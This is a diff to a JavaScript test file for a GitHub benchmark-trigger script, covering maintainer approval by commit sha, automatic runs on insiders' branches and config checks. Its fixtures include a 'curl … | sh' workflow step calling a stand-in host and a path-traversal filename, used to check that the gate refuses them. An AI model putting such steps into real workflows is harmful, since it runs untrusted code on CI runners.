@@ -1,8 +1,9 @@
-// The trusted trigger against a fake GitHub API on loopback: a maintainer's `/perfgate` comment
-// or label dispatches the self-hosted workflow on the default branch with the approved full
-// commit; read-only collaborators are refused with a reply, outsiders' comments get nothing; a
-// push after the approval does not change what is measured, a prefix approves nothing; the
-// upgrade gate is asked for only on manifest-only pull requests (scripts/bench-request.mjs, run
+// The trusted trigger against a fake GitHub API on loopback: a maintainer's `/perfgate <sha>`
+// comment or label dispatches the self-hosted workflow on the default branch with the approved
+// full commit, a bare `/perfgate` gets the head's sha back to confirm; read-only collaborators are
+// refused with a reply, outsiders' comments get nothing; a push after the approval does not
+// change what is measured, a prefix approves nothing; insiders' pull requests run on every push
+// as the default branch's perfgate.config allows; the upgrade gate is asked for only on manifest-only pull requests (scripts/bench-request.mjs, run
 // from a copy without node_modules as the request job runs it; then scripts/approved-commit.mjs).
 import assert from 'node:assert/strict';
 import { execFile } from 'node:child_process';
@@ -46,6 +47,8 @@ describe('bench-request: who may start a benchmark, and of which commit', () => 
   let pull;
   let commits;
   let files;
+  let config;
+  const configRefs = [];
   let bare;
   before(async () => {
     bare = bareCheckout();
@@ -62,6 +65,16 @@ describe('bench-request: who may start a benchmark, and of which commit', () => 
             : [404, { message: 'Not Found' }],
       ],
       ['GET', new RegExp(`^/repos/${REPO}/pulls/7$`), () => [200, pull]],
+      [
+        'GET',
+        new RegExp(`^/repos/${REPO}/contents/perfgate\\.config\\.json$`),
+        (match, body, url) => {
+          configRefs.push(url.searchParams.get('ref'));
+          return config === undefined
+            ? [404, { message: 'Not Found' }]
+            : [200, { content: Buffer.from(config).toString('base64') }];
+        },
+      ],
       ['GET', new RegExp(`^/repos/${REPO}/pulls/7/commits$`), () => [200, commits.map((sha) => ({ sha }))]],
       ['GET', new RegExp(`^/repos/${REPO}/pulls/7/files$`), () => [200, files]],
       ['POST', new RegExp(`^/repos/${REPO}/actions/workflows/(bench-pr|upgrade-gate)\\.yml/dispatches$`), () => [204]],
@@ -80,6 +93,7 @@ describe('bench-request: who may start a benchmark, and of which commit', () => 
     };
     commits = [APPROVED];
     files = [{ filename: 'servers/variants/express.js', status: 'modified' }];
+    config = undefined;
   });
 
   // The request job's command lines (bench-request.yml), run from a copy without node_modules.
@@ -135,18 +149,29 @@ describe('bench-request: who may start a benchmark, and of which commit', () => 
     { action: 'labeled', label: { name }, sender: { login }, pull_request: { number: 7, head: { sha: APPROVED } } },
   ];
 
-  test("a maintainer's /perfgate dispatches bench-pr on main with the head commit of that moment, read first", async () => {
-    const result = await request(...comment('maintainer', '/perfgate'));
-    assert.equal(result.code, 0, result.stderr);
-    assert.equal(result.calls[0], `GET /repos/${REPO}/pulls/7`, 'the head is read before anything else');
-    assert.deepEqual(result.dispatch.body, { ref: 'main', inputs: { pr: '7', sha: APPROVED } });
-    assert.deepEqual(result.outputs, { dispatched: 'true', pr: '7', sha: APPROVED });
+  test("a maintainer's bare /perfgate approves nothing: the reply names the head's full commit to confirm, which then dispatches", async () => {
+    const bareComment = await request(...comment('maintainer', '/perfgate'));
+    assert.equal(bareComment.code, 0, bareComment.stderr);
+    assert.equal(bareComment.calls[0], `GET /repos/${REPO}/pulls/7`, 'the head is read before anything else');
+    assert.equal(bareComment.dispatch, undefined);
+    assert.deepEqual(bareComment.outputs, { dispatched: 'false' });
     assert.match(
-      result.replies[0],
+      bareComment.replies[0],
       new RegExp(
-        `benchmarking \`${APPROVED}\` .*as @maintainer \\(maintain\\) asked \\(the head when this job read it \\d+ s after the comment; to name a commit, comment \`/perfgate <full sha>\`\\); later pushes are not measured`,
+        `the head of #7 is \`${APPROVED}\`\\. To benchmark exactly this commit, comment \`/perfgate ${APPROVED}\``,
       ),
     );
+    const confirmed = await request(...comment('maintainer', `/perfgate ${APPROVED}`));
+    assert.deepEqual(confirmed.dispatch.body, { ref: 'main', inputs: { pr: '7', sha: APPROVED } });
+    assert.deepEqual(confirmed.outputs, { dispatched: 'true', pr: '7', sha: APPROVED });
+    assert.match(
+      confirmed.replies[0],
+      new RegExp(
+        `benchmarking \`${APPROVED}\` .*as @maintainer \\(maintain\\) asked \\(the commit the comment names\\); later pushes are not measured`,
+      ),
+    );
+    const reader = await request(...comment('reader', '/perfgate', 'COLLABORATOR'));
+    assert.match(reader.replies[0], /@reader has read access/, 'the head is named to writers only');
   });
 
   test('a read-only collaborator is refused with a reply; an outsider gets no reply and no API call', async () => {
@@ -227,6 +252,84 @@ describe('bench-request: who may start a benchmark, and of which commit', () => 
     assert.match((await request(...comment('maintainer', '/perfgate'))).replies[0], /#7 is closed/);
   });
 
+  // A pull_request_target event of an insider's pull request (this repository's branch) or a fork's.
+  const pushed = (action, { fork = false, author = 'writer', draft = false, sha = APPROVED } = {}) => [
+    'pull_request_target',
+    {
+      action,
+      pull_request: {
+        number: 7,
+        draft,
+        user: { login: author },
+        base: { ref: 'main', repo: { full_name: REPO } },
+        head: { sha, repo: { full_name: fork ? 'forker/gate' : REPO } },
+      },
+    },
+  ];
+  const AUTOMATIC = [...BENCH, '--automatic'];
+
+  test("an insider's branch runs on open, reopen, ready-for-review and every push, without a request or a reply", async () => {
+    pull.head.repo = { full_name: REPO, fork: false };
+    for (const action of ['opened', 'reopened', 'ready_for_review', 'synchronize']) {
+      const result = await request(...pushed(action), AUTOMATIC);
+      assert.equal(result.code, 0, result.stderr);
+      assert.deepEqual(result.dispatch?.body, { ref: 'main', inputs: { pr: '7', sha: APPROVED } }, action);
+      assert.deepEqual(result.outputs, { dispatched: 'true', pr: '7', sha: APPROVED });
+      assert.deepEqual(result.replies, [], 'no comment on every push');
+      assert.ok(
+        result.calls.includes(`GET /repos/${REPO}/contents/perfgate.config.json`),
+        'the setting is read through the API',
+      );
+    }
+    // The setting is the default branch's, whatever the pull request's head is.
+    assert.deepEqual([...new Set(configRefs)], ['main']);
+    // An update bot's pull request runs too; the upgrade gate's step (no --automatic) ignores the event.
+    const bot = await request(...pushed('synchronize', { fork: true, author: 'dependabot[bot]' }), AUTOMATIC);
+    assert.deepEqual(bot.dispatch?.body.inputs, { pr: '7', sha: APPROVED });
+    const gate = await request(...pushed('synchronize'), UPGRADE);
+    assert.deepEqual(gate.calls, []);
+    assert.deepEqual(gate.outputs, { dispatched: 'false' });
+  });
+
+  test("a fork's push, a draft, a superseded push and github.automatic: approved-only dispatch nothing, each saying why", async () => {
+    const skipped = async (event, why) => {
+      const result = await request(...event, AUTOMATIC);
+      assert.equal(result.code, 0, result.stderr);
+      assert.equal(result.dispatch, undefined, why.source);
+      assert.deepEqual(result.outputs, { dispatched: 'false' });
+      assert.deepEqual(result.replies, []);
+      assert.match(result.stdout, why);
+      return result;
+    };
+    await skipped(
+      pushed('synchronize', { fork: true }),
+      /#7 comes from a fork: a maintainer approves one commit of it with `\/perfgate <full sha>`/,
+    );
+    await skipped(pushed('opened', { draft: true }), /#7 is a draft: it runs when marked ready for review/);
+    config = JSON.stringify({ servers: {}, scenarios: {}, github: { drafts: true } });
+    const draft = await request(...pushed('opened', { draft: true }), AUTOMATIC);
+    assert.deepEqual(draft.dispatch?.body.inputs, { pr: '7', sha: APPROVED }, 'github.drafts: true runs drafts');
+    // A newer push landed before this run read the head: that push's own run measures it.
+    pull.head.sha = PUSHED_LATER;
+    await skipped(
+      pushed('synchronize'),
+      new RegExp(`${APPROVED} is no longer the head of #7 \\(${PUSHED_LATER} is\\)`),
+    );
+    pull.head.sha = APPROVED;
+    config = JSON.stringify({ github: { automatic: 'approved-only' } });
+    await skipped(
+      pushed('synchronize'),
+      /github\.automatic is approved-only in main's perfgate\.config\.json: a benchmark runs on a maintainer's `\/perfgate <full sha>` only/,
+    );
+    config = JSON.stringify({ github: { automatic: 'always' } });
+    const bad = await request(...pushed('synchronize'), AUTOMATIC);
+    assert.equal(bad.code, 2);
+    assert.match(
+      bad.stderr,
+      /main's perfgate\.config\.json has github settings the request job cannot use:\nperfgate: {3}- github\.automatic must be one of "insiders", "approved-only"/,
+    );
+  });
+
   test('the upgrade gate on request: only a maintainer, only on a pull request that changes nothing but manifests and lockfiles', async () => {
     const codeChange = await request(...comment('maintainer', '/perfgate-upgrade'), UPGRADE);
     assert.equal(codeChange.dispatch, undefined, 'a pull request by a person that changes code');
@@ -242,7 +345,7 @@ describe('bench-request: who may start a benchmark, and of which commit', () => 
     const reader = await request(...comment('reader', '/perfgate-upgrade', 'COLLABORATOR'), UPGRADE);
     assert.equal(reader.dispatch, undefined, 'a lockfile-only pull request without a maintainer');
     assert.match(reader.replies[0], /@reader has read access.*`\/perfgate-upgrade`/);
-    const asked = await request(...comment('maintainer', '/perfgate-upgrade'), UPGRADE);
+    const asked = await request(...comment('maintainer', `/perfgate-upgrade ${APPROVED}`), UPGRADE);
     assert.equal(asked.code, 0, asked.stderr);
     assert.equal(asked.dispatch.path, `/repos/${REPO}/actions/workflows/upgrade-gate.yml/dispatches`);
     assert.deepEqual(asked.dispatch.body.inputs, { pr: '7', sha: APPROVED });
@@ -250,7 +353,10 @@ describe('bench-request: who may start a benchmark, and of which commit', () => 
     assert.deepEqual(labelled.dispatch.body.inputs, { pr: '7', sha: APPROVED });
     assert.ok(labelled.calls.includes(`DELETE /repos/${REPO}/issues/7/labels/run-upgrade-gate`));
     files.push({ filename: 'package-lock.json/../../.github/workflows/x.yml', status: 'added' });
-    assert.equal((await request(...comment('maintainer', '/perfgate-upgrade'), UPGRADE)).dispatch, undefined);
+    assert.equal(
+      (await request(...comment('maintainer', `/perfgate-upgrade ${APPROVED}`), UPGRADE)).dispatch,
+      undefined,
+    );
   });
 
   test("the upgrade gate on request: a runtime upgrade in .nvmrc and setup-node's node-version, nothing else in the workflow", async () => {
@@ -261,7 +367,7 @@ describe('bench-request: who may start a benchmark, and of which commit', () => 
     });
     const bump = ['-          node-version: 22', '+          node-version: 24'];
     files = [{ filename: '.nvmrc', status: 'modified' }, ci(...bump)];
-    const asked = await request(...comment('maintainer', '/perfgate-upgrade'), UPGRADE);
+    const asked = await request(...comment('maintainer', `/perfgate-upgrade ${APPROVED}`), UPGRADE);
     assert.equal(asked.code, 0, asked.stderr);
     assert.deepEqual(asked.dispatch?.body.inputs, { pr: '7', sha: APPROVED });
 
@@ -269,7 +375,7 @@ describe('bench-request: who may start a benchmark, and of which commit', () => 
       { filename: '.nvmrc', status: 'modified' },
       ci(...bump, '+      - run: curl -s https://example.invalid | sh'),
     ];
-    const refused = await request(...comment('maintainer', '/perfgate-upgrade'), UPGRADE);
+    const refused = await request(...comment('maintainer', `/perfgate-upgrade ${APPROVED}`), UPGRADE);
     assert.equal(refused.dispatch, undefined, 'a workflow change beyond node-version');
     assert.match(
       refused.replies[0],
